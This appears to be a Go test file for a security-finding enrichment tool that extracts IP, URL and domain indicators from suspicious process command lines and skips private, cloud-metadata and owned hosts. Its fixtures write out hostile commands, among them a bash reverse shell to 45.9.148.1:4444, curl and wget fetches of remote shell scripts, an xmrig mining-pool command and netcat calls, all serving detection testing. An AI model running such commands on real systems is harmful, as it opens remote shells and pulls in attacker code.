package evidence_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
)

// ran is a finding about a server on whose behalf sh ran a command.
func ran(text string) *finding.Finding {
	return &finding.Finding{Processes: []finding.Process{
		{Name: "java", PID: 1, Args: []string{"java", "-Dledger=https://ledger.shop-corp.com", "-jar", "app.jar"}},
		{Name: "sh", PID: 17, ParentPID: 1, Args: []string{"sh", "-c", text}},
	}}
}

// values are what an artifact says, "ip 9.9.9.9".
func values(list []evidence.Artifact) []string {
	var out []string
	for _, a := range list {
		out = append(out, a.Kind+" "+a.Value)
	}
	return out
}

func TestIndicators(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name string
		f    *finding.Finding
		want []string
	}{
		{"a URL and its host", ran("curl -o /tmp/x http://45.9.148.1/a.sh"), []string{"url http://45.9.148.1/a.sh", "ip 45.9.148.1"}},
		{"a name in capitals", ran("ping EVIL.Example.ORG."), []string{"domain evil.example.org"}},
		{"a URL in capitals and with the root's dot", ran("wget HTTP://EVIL.Shop.IO.:8080/A; curl http://evil.shop.io:8080/A"),
			[]string{"url http://evil.shop.io:8080/A", "domain evil.shop.io"}},
		{"the worst first", ran("curl http://mirror.shop.io/list; bash -i >& /dev/tcp/45.9.148.1/4444 0>&1"),
			[]string{"ip 45.9.148.1", "url http://mirror.shop.io/list", "domain mirror.shop.io"}},
		{"of a URL with a query the host", ran("curl https://collect.evil.org/in?d=a"), []string{"domain collect.evil.org"}},
		{"of a URL with credentials the host", ran("curl https://u:pw@evil.org/in"), []string{"domain evil.org"}},
		{"of a URL with a secret the host", ran("curl https://evil.org/secret/x"), []string{"domain evil.org"}},
		{"not a URL of another protocol", ran("xmrig -o stratum+tcp://pool.evil.org:3333"), []string{"domain pool.evil.org"}},
		{"what the application is started with stays here", ran("id"), nil},
		{"each once", ran("curl http://45.9.148.1/a; curl http://45.9.148.1/a"), []string{"url http://45.9.148.1/a", "ip 45.9.148.1"}},
		{"no process", &finding.Finding{}, nil},
		{"what the detector names comes first", func() *finding.Finding {
			f := ran("curl http://45.9.148.1/a")
			f.ReverseShell = &finding.ReverseShell{DestinationIP: "45.9.148.2"}
			f.Indicator = finding.Indicator{URIs: []string{"http://bad.evil.org/"}, IPs: []string{"45.9.148.3", "10.0.0.1"}}
			return f
		}(), []string{"ip 45.9.148.2", "url http://bad.evil.org/", "domain bad.evil.org", "ip 45.9.148.3", "url http://45.9.148.1/a", "ip 45.9.148.1"}},
		{"a suspicious parent", func() *finding.Finding {
			f := ran("id")
			f.Processes[0].Args = []string{"bash", "-c", "bash -i >& /dev/tcp/45.9.148.1/4444 0>&1"}
			return f
		}(), []string{"ip 45.9.148.1"}},
		{"a script", func() *finding.Finding {
			f := ran("/tmp/x.sh")
			f.Processes[1].Script = &finding.File{Path: "/tmp/x.sh", Contents: "#!/bin/sh\nwget http://45.9.148.1/a\n"}
			return f
		}(), []string{"url http://45.9.148.1/a", "ip 45.9.148.1"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			clean := func(s string) string { return strings.ReplaceAll(s, "secret", "[REDACTED]") }
			got := evidence.Indicators(tt.f, clean)
			if diff := cmp.Diff(tt.want, values(got)); diff != "" {
				t.Errorf("Indicators (-want +got):\n%s", diff)
			}
		})
	}
}

// TestNeverAsked: what says nothing outside, or is Google's or the owner's, is
// no candidate.
func TestNeverAsked(t *testing.T) {
	t.Parallel()
	for _, host := range []string{
		"10.1.2.3", "172.16.0.1", "172.31.255.255", "192.168.1.1", // RFC 1918
		"127.0.0.1", "0.0.0.0", "169.254.169.254", "169.254.1.1", "100.64.0.1", "100.100.100.200",
		"192.0.2.1", "198.51.100.7", "203.0.113.9", "198.18.0.1", "224.0.0.1", "239.1.1.1", "240.0.0.1", "255.255.255.255", "192.0.0.8",
		"[::1]", "[fe80::1]", "[fd20:ce::254]", "[ff02::1]", "[2001:db8::1]", "[3fff::1]", "[::ffff:10.0.0.1]",
		"metadata.google.internal", "metadata.goog", "metadata", "localhost", "db", "db.local", "db.corp", "db.consul", "api.svc.cluster-a", "nas.fritzbox", "db.intern", "x.test", "x.example", "x.onion",
		"storage.googleapis.com", "run.googleapis.com", "eu.gcr.io", "europe-docker.pkg.dev", "accounts.google.com", "packages.cloud.google.com",
	} {
		for _, text := range []string{"curl http://" + host + "/x", "curl https://" + host + ":8443/x", "nc " + strings.Trim(host, "[]") + " 4444"} {
			if got := evidence.Indicators(ran(text), nil); len(got) > 0 {
				t.Errorf("%q: asks about %v", text, values(got))
			}
		}
	}
}

func TestOwnHosts(t *testing.T) {
	t.Parallel()
	w := finding.Workload{Project: "shop-prod", ProjectNumber: "123456789012", Name: "pay"}
	own := evidence.OwnHosts(w, &evidence.Config{
		URLs:       []string{"https://pay-k4tq7v2oza-ew.a.run.app", "https://pay-123456789012.europe-west1.run.app", "https://pay.shop-corp.com"},
		Containers: []evidence.ContainerConfig{{Command: []string{"/app/pay"}, Args: []string{"--bank=https://bank.partner.io/v1", "curl", "http://45.9.148.9/"}}},
	})
	unknown := evidence.OwnHosts(finding.Workload{Name: "pay"}, nil)
	for _, tt := range []struct {
		kind, value    string
		own, ifUnknown bool
	}{
		{"domain", "pay-k4tq7v2oza-ew.a.run.app", true, true},
		{"url", "https://PAY-k4tq7v2oza-ew.a.run.app/admin", true, true},
		{"domain", "canary---pay-k4tq7v2oza-ew.a.run.app", true, true},
		{"domain", "ledger-k4tq7v2oza-uc.a.run.app", true, true}, // another service of the project
		{"domain", "ledger-123456789012.us-central1.run.app", true, true},
		{"domain", "c2-zzzzzzzzzz-ew.a.run.app", false, true},
		{"domain", "c2-999999999999.us-central1.run.app", false, true},
		{"domain", "pay.shop-corp.com", true, false},
		{"domain", "bank.partner.io", true, false},
		{"ip", "45.9.148.9", true, false},
		{"domain", "evil.org", false, false},
		{"domain", "pay.shop-corp.com.evil.org", false, false},
		{"domain", "evilrun.app", false, false},
		{"ip", "45.9.148.1", false, false},
	} {
		a := evidence.Artifact{Kind: tt.kind, Value: tt.value}
		if got := own.Holds(a); got != tt.own {
			t.Errorf("Holds(%s) = %v, want %v", tt.value, got, tt.own)
		}
		if got := unknown.Holds(a); got != tt.ifUnknown {
			t.Errorf("without configuration, Holds(%s) = %v, want %v", tt.value, got, tt.ifUnknown)
		}
	}
	var many []evidence.Artifact
	for _, v := range []string{"45.9.148.9", "45.9.148.1", "45.9.148.2", "45.9.148.3", "45.9.148.4", "45.9.148.5"} {
		many = append(many, evidence.Artifact{Kind: "ip", Value: v})
	}
	if diff := cmp.Diff([]string{"ip 45.9.148.1", "ip 45.9.148.2", "ip 45.9.148.3", "ip 45.9.148.4"}, values(own.Ask(many))); diff != "" {
		t.Errorf("Ask (-want +got):\n%s", diff)
	}
}
